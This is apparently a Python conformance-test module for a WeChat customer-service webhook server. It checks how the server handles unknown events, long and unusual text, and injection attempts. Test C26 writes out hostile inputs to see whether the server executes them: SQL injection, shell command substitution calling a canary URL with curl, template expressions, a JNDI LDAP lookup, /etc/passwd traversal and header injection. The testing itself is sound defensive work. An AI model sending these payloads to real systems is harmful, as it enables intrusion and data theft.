"""C20 to C27: kinds of tomorrow, and what users and their clients may put into a message."""

from wxkf_cli.simulate.conformance.asker import Asker, Twist
from wxkf_cli.simulate.conformance.check import Fault, Letter
from wxkf_cli.simulate.conformance.judging import (
    answered,
    died,
    is_late,
    plain_answer,
    status_of,
    touched,
    unless_right,
    unless_sound,
    verdict_of,
)
from wxkf_cli.vocab.message import Value
from wxkf_cli.vocab.terms import DataFormat, Text
from wxkf_cli.wechat.verdict import Verdict
from wxkf_cli.wire.escape import quoted
from wxkf_cli.wire.exchange import Exchange, Response

_FACTORS = 31_337, 73_331
_PRODUCT = str(_FACTORS[0] * _FACTORS[1])
_TEMPLATES = "{{F}} ${F} <%= F %> #{F}".replace("F", f"{_FACTORS[0]}*{_FACTORS[1]}")
_INJECTED = "X-Wxkf-Injected"
_NUL_MARK = "WXKFNUL"
#: Characters of a text: what a phone sends at most, and more; only the last may be refused.
_LENGTHS = (2048, 20_000, 1_048_576)
_CHARACTERS = {
    "an emoji": ("表情符号", "😀"),
    "a character beyond U+FFFF": ("U+FFFF 以外的汉字", "𠮷"),
    "a family joined by ZWJ": ("ZWJ 组合的家庭表情", "👨‍👩‍👧‍👦"),
    "U+FFFD": ("U+FFFD", "\ufffd"),
    "right-to-left text": ("从右到左的文字", "\u202eשלום مرحبا"),
}
_MARKUP = ("]]>", "]]]]><![CDATA[>", "<MsgType>", "</Content><MsgType>event</MsgType><Content>", "&lt;&amp;&#60;")


def _unless_acknowledged(what: Text, asker: Asker, exchange: Exchange, letter: Letter | None = None) -> list[Fault]:
    verdict = verdict_of(asker, exchange)
    if verdict is Verdict.ACKNOWLEDGED:
        return []
    return [answered(what, asker, exchange, letter if verdict is Verdict.TRANSFERRED else None)]


async def unknown_message(asker: Asker) -> list[Fault]:
    """C20."""
    exchange = await asker.ask(asker.push("unknown_message", is_genuine=True))
    # Agents may be glad of it, so a transfer is no more than doubtful.
    return _unless_acknowledged(Text("an unknown MsgType", "未知的 MsgType"), asker, exchange, Letter.MEDIUM)


async def unknown_event(asker: Asker) -> list[Fault]:
    """C21."""
    nested: dict[str, Value] = {"List": [{"TemplateId": "T", "Items": [{"Id": 1}, {"Id": 2}]}, {"TemplateId": "U"}]}
    pushes = {
        Text("an unknown Event", "未知的 Event"): asker.push("unknown_event", is_genuine=True),
        Text("an event with lists in lists", "带嵌套列表的事件"): asker.push("unknown_event", nested, is_genuine=True),
        Text("an event without its optional fields", "缺少可选字段的事件"): asker.push(
            "debug_demo", without=("debug_str",), is_genuine=True
        ),
    }
    found = []
    for what, push in pushes.items():
        found += _unless_acknowledged(what, asker, await asker.ask(push))
    return found


async def session_entered(asker: Asker) -> list[Fault]:
    """C22."""
    exchange = await asker.ask(asker.push("user_enter_tempsession", is_genuine=True))
    what = Text("user_enter_tempsession", "user_enter_tempsession")
    return _unless_acknowledged(what, asker, exchange)


async def long_text(asker: Asker) -> list[Fault]:
    """C23."""
    found = []
    for length in _LENGTHS:
        exchange = await asker.ask(asker.push(values={"Content": "长" * (length // 3) + "x" * (length % 3)}))
        what = Text(f"a text of {length} bytes", f"{length} 字节的文字")
        # Refused while it is still being sent, the refusal may be lost with the connection.
        is_refused = length == _LENGTHS[-1] and status_of(exchange) is None and not is_late(exchange)
        found += [] if is_refused and not died(exchange) else unless_sound(what, asker, exchange)
    return found


async def rare_characters(asker: Asker) -> list[Fault]:
    """C24."""
    found = []
    for english, (chinese, content) in _CHARACTERS.items():
        exchange = await asker.ask(asker.push(values={"Content": content}, is_genuine=True))
        found += unless_right(Text(f"{english}, {quoted(content)},", f"{chinese} {quoted(content)} "), asker, exchange)
    return found


async def markup_as_text(asker: Asker) -> list[Fault]:
    """C25."""
    found = []
    for content in _MARKUP:
        exchange = await asker.ask(asker.push(values={"Content": content}, is_genuine=True))
        found += unless_right(Text(f"the text {quoted(content)}", f"文字 {quoted(content)} "), asker, exchange)
    return found


async def injections(asker: Asker) -> list[Fault]:
    """C26."""
    url = asker.canary.url()
    strangers = asker.canary.strangers
    contents = {
        Text("a text of SQL", "SQL 文字"): "' OR '1'='1' --",
        Text("a text for a shell", "shell 文字"): f"$(curl -s {url}) `curl -s {url}` ; echo wxkf | cat",
        Text("a text with templates", "模板文字"): _TEMPLATES,
        Text("a text with a JNDI lookup", "JNDI 文字"): f"${{jndi:ldap://127.0.0.1:{asker.canary.port}/c}}",
        Text("a text with a path", "路径文字"): "../../../../etc/passwd",
        Text("a text with a line break and a header", "带换行和响应头的文字"): f"x\n{_INJECTED}: 1\n\nx",
    }
    found = []
    for what, content in contents.items():
        exchange = await asker.ask(asker.push(values={"Content": content}, is_genuine=True))
        found += unless_right(what, asker, exchange)
        found += await touched(what, asker, [url], exchange)
        if asker.canary.strangers > strangers and "jndi" in content:
            looked = Text(f"{what.en} was looked up", f"{what.zh}被执行了查询")
            found.append(Fault(looked, exchange))
        found += _carried_out(what, asker, exchange)
    nul = b"&#0;" if asker.data is DataFormat.XML else b"\\u0000"
    twist = Twist(
        plain=lambda plain: plain.replace(f"<![CDATA[{_NUL_MARK}]]>".encode(), nul).replace(_NUL_MARK.encode(), nul)
    )
    exchange = await asker.ask(asker.push(values={"Content": _NUL_MARK}, twist=twist))
    # In XML it is malformed, which weighs as it does in C35.
    letter = Letter.MEDIUM if asker.data is DataFormat.XML else None
    faults = unless_sound(Text("a text with NUL", "带 NUL 的文字"), asker, exchange)
    return [*found, *(fault._replace(letter=letter) for fault in faults)]


def _carried_out(what: Text, asker: Asker, exchange: Exchange) -> list[Fault]:
    answer = exchange.answer
    if not isinstance(answer, Response):
        return []
    if _PRODUCT.encode() in plain_answer(asker, exchange):
        return [
            Fault(
                Text(f"{what.en} was computed: the answer has {_PRODUCT}", f"{what.zh}被计算了：应答中有 {_PRODUCT}"),
                exchange,
            )
        ]
    if answer.header(_INJECTED):
        return [Fault(Text(f"{what.en} became a header of the answer", f"{what.zh}成了应答的响应头"), exchange)]
    return []


async def fetched_pictures(asker: Asker) -> list[Fault]:
    """C27."""
    found = []
    for kind, field in (("image", "PicUrl"), ("miniprogrampage", "ThumbUrl")):
        url = asker.canary.url()
        exchange = await asker.ask(asker.push(kind, {field: url}, is_genuine=True))
        found += await touched(Text(f"{field} of a push", f"推送的 {field}"), asker, [url], exchange)
    return found
